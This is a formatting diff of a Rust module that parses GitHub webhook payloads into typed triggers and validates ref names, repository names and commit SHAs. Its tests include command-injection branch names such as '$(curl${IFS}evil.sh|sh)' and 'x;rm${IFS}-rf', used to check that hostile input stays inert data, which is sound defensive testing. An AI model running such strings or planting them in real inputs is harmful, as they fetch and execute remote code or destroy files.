@@ -44,7 +44,11 @@ const SHOWN_CHARS: usize = 80;
 /// Show an untrusted value in a one-line message: control characters escaped, cut to
 /// [`SHOWN_CHARS`] characters.
 pub(crate) fn shown(value: &str) -> String {
-    let mut out: String = value.chars().take(SHOWN_CHARS).flat_map(char::escape_debug).collect();
+    let mut out: String = value
+        .chars()
+        .take(SHOWN_CHARS)
+        .flat_map(char::escape_debug)
+        .collect();
     if value.chars().nth(SHOWN_CHARS).is_some() {
         out.push('…');
     }
@@ -101,7 +105,11 @@ impl fmt::Display for RefProblem {
                 f.write_str("it contains a control character (newline, tab, …); git forbids them")
             }
             Self::ForbiddenCharacter { character } => {
-                write!(f, "it contains `{}`, which git forbids in ref names", character.escape_debug())
+                write!(
+                    f,
+                    "it contains `{}`, which git forbids in ref names",
+                    character.escape_debug()
+                )
             }
             Self::DoubleDot => f.write_str("it contains `..`, which git forbids"),
             Self::AtBrace => f.write_str("it contains `@{`, which git forbids"),
@@ -199,7 +207,9 @@ impl Repository {
     pub fn parse(full_name: &str) -> Option<Self> {
         let (owner, name) = full_name.split_once('/')?;
         let owner_ok = (1..=39).contains(&owner.len())
-            && owner.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
+            && owner
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-');
         let name_ok = (1..=100).contains(&name.len())
             && name != "."
             && name != ".."
@@ -240,7 +250,9 @@ impl CommitSha {
     /// Validate a full commit SHA; returns `None` if it is not 40 or 64 hex digits.
     pub fn parse(sha: &str) -> Option<Self> {
         let ok = matches!(sha.len(), 40 | 64)
-            && sha.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
+            && sha
+                .bytes()
+                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
         ok.then(|| Self(sha.to_owned()))
     }
 
@@ -359,7 +371,11 @@ impl fmt::Display for IgnoredReason {
                 write!(f, "tag `{}` was deleted: tags have no preview", shown(tag))
             }
             Self::OtherRefType { ref_type } => {
-                write!(f, "deleted ref of type `{}` is not a branch", shown(ref_type))
+                write!(
+                    f,
+                    "deleted ref of type `{}` is not a branch",
+                    shown(ref_type)
+                )
             }
             Self::DefaultBranch { branch } => write!(
                 f,
@@ -473,7 +489,9 @@ impl Trigger {
             Self::Push { repository, .. }
             | Self::BranchDeleted { repository, .. }
             | Self::Dispatch { repository, .. } => Some(repository),
-            Self::PullRequest { pr, .. } | Self::PullRequestClosed { pr, .. } => Some(&pr.repository),
+            Self::PullRequest { pr, .. } | Self::PullRequestClosed { pr, .. } => {
+                Some(&pr.repository)
+            }
             Self::Schedule { repository, .. } => repository.as_ref(),
             Self::Ignored { .. } => None,
         }
@@ -501,7 +519,9 @@ pub enum EventError {
         message: String,
     },
     /// A required field is missing or `null`.
-    #[error("`{event}` payload has no `{path}`: pass the complete payload GitHub sent for this event")]
+    #[error(
+        "`{event}` payload has no `{path}`: pass the complete payload GitHub sent for this event"
+    )]
     MissingField {
         /// The event name.
         event: String,
@@ -543,7 +563,9 @@ pub enum EventError {
         value: String,
     },
     /// A commit SHA that is not 40 or 64 hex digits.
-    #[error("`{event}` payload field `{path}` is not a commit SHA (`{value}`): expected 40 or 64 lowercase hex digits")]
+    #[error(
+        "`{event}` payload field `{path}` is not a commit SHA (`{value}`): expected 40 or 64 lowercase hex digits"
+    )]
     InvalidCommit {
         /// The event name.
         event: String,
@@ -755,7 +777,9 @@ fn parse_push(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError> {
     let git_ref = cx.req(raw.git_ref.as_deref(), "ref")?;
     if let Some(tag) = git_ref.strip_prefix("refs/tags/") {
         return Ok(Trigger::Ignored {
-            reason: IgnoredReason::TagPush { tag: tag.to_owned() },
+            reason: IgnoredReason::TagPush {
+                tag: tag.to_owned(),
+            },
         });
     }
     let Some(name) = git_ref.strip_prefix("refs/heads/") else {
@@ -882,7 +906,10 @@ fn parse_pull_request(cx: &Cx<'_>, payload: &[u8]) -> Result<Trigger, EventError
         from_fork,
     };
     Ok(match action {
-        Some(action) => Trigger::PullRequest { action, pr: pr_view },
+        Some(action) => Trigger::PullRequest {
+            action,
+            pr: pr_view,
+        },
         None => Trigger::PullRequestClosed {
             merged: pr.merged.unwrap_or(pr.merged_at.is_some()),
             pr: pr_view,
@@ -977,7 +1004,14 @@ mod tests {
     #[test]
     fn branch_push_becomes_a_push_trigger() {
         let t = parse("push", &push("refs/heads/feature/payment-api")).unwrap();
-        let Trigger::Push { repository, branch, commit, actor, default_branch } = t else {
+        let Trigger::Push {
+            repository,
+            branch,
+            commit,
+            actor,
+            default_branch,
+        } = t
+        else {
             panic!("expected a push, got {t:?}");
         };
         assert_eq!(repository.as_str(), "octo-org/octo-repo");
@@ -992,7 +1026,12 @@ mod tests {
     #[test]
     fn push_to_the_default_branch_is_ignored() {
         let t = parse("push", &push("refs/heads/main")).unwrap();
-        assert!(matches!(t, Trigger::Ignored { reason: IgnoredReason::DefaultBranch { .. } }));
+        assert!(matches!(
+            t,
+            Trigger::Ignored {
+                reason: IgnoredReason::DefaultBranch { .. }
+            }
+        ));
     }
 
     #[test]
@@ -1015,9 +1054,19 @@ mod tests {
     #[test]
     fn tag_push_and_other_refs_are_ignored() {
         let t = parse("push", &push("refs/tags/v1.0")).unwrap();
-        assert_eq!(t, Trigger::Ignored { reason: IgnoredReason::TagPush { tag: "v1.0".into() } });
+        assert_eq!(
+            t,
+            Trigger::Ignored {
+                reason: IgnoredReason::TagPush { tag: "v1.0".into() }
+            }
+        );
         let t = parse("push", &push("refs/notes/commits")).unwrap();
-        assert!(matches!(t, Trigger::Ignored { reason: IgnoredReason::OtherRef { .. } }));
+        assert!(matches!(
+            t,
+            Trigger::Ignored {
+                reason: IgnoredReason::OtherRef { .. }
+            }
+        ));
     }
 
     #[test]
@@ -1040,7 +1089,9 @@ mod tests {
         v["ref_type"] = json!("tag");
         assert!(matches!(
             parse("delete", &v).unwrap(),
-            Trigger::Ignored { reason: IgnoredReason::TagDeleted { .. } }
+            Trigger::Ignored {
+                reason: IgnoredReason::TagDeleted { .. }
+            }
         ));
     }
 
@@ -1054,7 +1105,11 @@ mod tests {
             ("labeled", "ignored"),
             ("edited", "ignored"),
         ] {
-            assert_eq!(parse("pull_request", &pr(action)).unwrap().kind(), kind, "{action}");
+            assert_eq!(
+                parse("pull_request", &pr(action)).unwrap().kind(),
+                kind,
+                "{action}"
+            );
         }
     }
 
@@ -1094,46 +1149,86 @@ mod tests {
     #[test]
     fn schedule_and_dispatch_are_parsed() {
         let t = parse("schedule", &json!({"schedule": "0 */4 * * *"})).unwrap();
-        assert_eq!(t, Trigger::Schedule { cron: Some("0 */4 * * *".into()), repository: None });
+        assert_eq!(
+            t,
+            Trigger::Schedule {
+                cron: Some("0 */4 * * *".into()),
+                repository: None
+            }
+        );
         let t = parse(
             "workflow_dispatch",
             &json!({"ref": "refs/heads/main", "inputs": {"name": "demo", "force": true, "n": 3, "x": null},
                     "repository": {"full_name": "octo-org/octo-repo"}}),
         )
         .unwrap();
-        let Trigger::Dispatch { inputs, git_ref, .. } = t else { panic!("expected dispatch") };
+        let Trigger::Dispatch {
+            inputs, git_ref, ..
+        } = t
+        else {
+            panic!("expected dispatch")
+        };
         assert_eq!(git_ref, "refs/heads/main");
         assert_eq!(
             inputs.into_iter().collect::<Vec<_>>(),
-            vec![("force".into(), "true".into()), ("n".into(), "3".into()), ("name".into(), "demo".into())]
+            vec![
+                ("force".into(), "true".into()),
+                ("n".into(), "3".into()),
+                ("name".into(), "demo".into())
+            ]
         );
     }
 
     #[test]
     fn unknown_events_are_ignored_without_reading_the_payload() {
         let t = parse_event("issues", b"not json at all").unwrap();
-        assert!(matches!(t, Trigger::Ignored { reason: IgnoredReason::UnsupportedEvent { .. } }));
-        assert_eq!(parse_event("pull_request_target", b"{}").unwrap().kind(), "ignored");
+        assert!(matches!(
+            t,
+            Trigger::Ignored {
+                reason: IgnoredReason::UnsupportedEvent { .. }
+            }
+        ));
+        assert_eq!(
+            parse_event("pull_request_target", b"{}").unwrap().kind(),
+            "ignored"
+        );
     }
 
     #[test]
     fn invalid_json_reports_line_and_column() {
         let err = parse_event("push", b"{\n  \"ref\": \"refs/heads/x\",\n  oops\n}").unwrap_err();
-        let EventError::InvalidJson { line, column, .. } = &err else { panic!("{err:?}") };
+        let EventError::InvalidJson { line, column, .. } = &err else {
+            panic!("{err:?}")
+        };
         assert_eq!((*line, *column), (3, 3));
-        assert!(err.to_string().starts_with("`push` payload is not valid JSON at line 3, column 3"));
-        assert!(matches!(parse_event("push", b"{} {}").unwrap_err(), EventError::InvalidJson { .. }));
-        assert!(matches!(parse_event("push", b"").unwrap_err(), EventError::InvalidJson { .. }));
+        assert!(
+            err.to_string()
+                .starts_with("`push` payload is not valid JSON at line 3, column 3")
+        );
+        assert!(matches!(
+            parse_event("push", b"{} {}").unwrap_err(),
+            EventError::InvalidJson { .. }
+        ));
+        assert!(matches!(
+            parse_event("push", b"").unwrap_err(),
+            EventError::InvalidJson { .. }
+        ));
     }
 
     #[test]
     fn missing_fields_name_their_json_path() {
         let mut v = pr("opened");
-        v["pull_request"]["head"].as_object_mut().unwrap().remove("ref");
+        v["pull_request"]["head"]
+            .as_object_mut()
+            .unwrap()
+            .remove("ref");
         let err = parse("pull_request", &v).unwrap_err();
         assert_eq!(
             err,
-            EventError::MissingField { event: "pull_request".into(), path: "pull_request.head.ref".into() }
+            EventError::MissingField {
+                event: "pull_request".into(),
+                path: "pull_request.head.ref".into()
+            }
         );
         assert_eq!(
             err.to_string(),
@@ -1146,7 +1241,9 @@ mod tests {
         let mut v = pr("opened");
         v["pull_request"]["head"]["ref"] = json!(42);
         let err = parse("pull_request", &v).unwrap_err();
-        let EventError::WrongType { path, message, .. } = &err else { panic!("{err:?}") };
+        let EventError::WrongType { path, message, .. } = &err else {
+            panic!("{err:?}")
+        };
         assert_eq!(path, "pull_request.head.ref");
         assert!(message.contains("invalid type: integer `42`"), "{message}");
         let err = parse_event("push", b"[1, 2]").unwrap_err();
@@ -1155,7 +1252,15 @@ mod tests {
 
     #[test]
     fn hostile_but_legal_branch_names_survive_as_data() {
-        for name in ["$(curl${IFS}evil.sh|sh)", "`id`", "a\"b'c", "x;rm${IFS}-rf", "<script>", "a|b", "émoji-🚀"] {
+        for name in [
+            "$(curl${IFS}evil.sh|sh)",
+            "`id`",
+            "a\"b'c",
+            "x;rm${IFS}-rf",
+            "<script>",
+            "a|b",
+            "émoji-🚀",
+        ] {
             let t = parse("push", &push(&format!("refs/heads/{name}"))).unwrap();
             assert_eq!(t.branch().unwrap().as_str(), name);
         }
@@ -1167,7 +1272,10 @@ mod tests {
             ("a\nb", RefProblem::ControlCharacter),
             ("a\tb", RefProblem::ControlCharacter),
             ("a b", RefProblem::ForbiddenCharacter { character: ' ' }),
-            ("$(curl evil)", RefProblem::ForbiddenCharacter { character: ' ' }),
+            (
+                "$(curl evil)",
+                RefProblem::ForbiddenCharacter { character: ' ' },
+            ),
             ("a~1", RefProblem::ForbiddenCharacter { character: '~' }),
             ("a..b", RefProblem::DoubleDot),
             ("a@{1}", RefProblem::AtBrace),
@@ -1203,7 +1311,11 @@ mod tests {
             assert!(Repository::parse(bad).is_none(), "{bad}");
             let mut v = push("refs/heads/x");
             v["repository"]["full_name"] = json!(bad);
-            assert_eq!(parse("push", &v).unwrap_err().kind(), "invalid_repository", "{bad}");
+            assert_eq!(
+                parse("push", &v).unwrap_err().kind(),
+                "invalid_repository",
+                "{bad}"
+            );
         }
         assert!(Repository::parse("my-org/my.repo_1").is_some());
     }
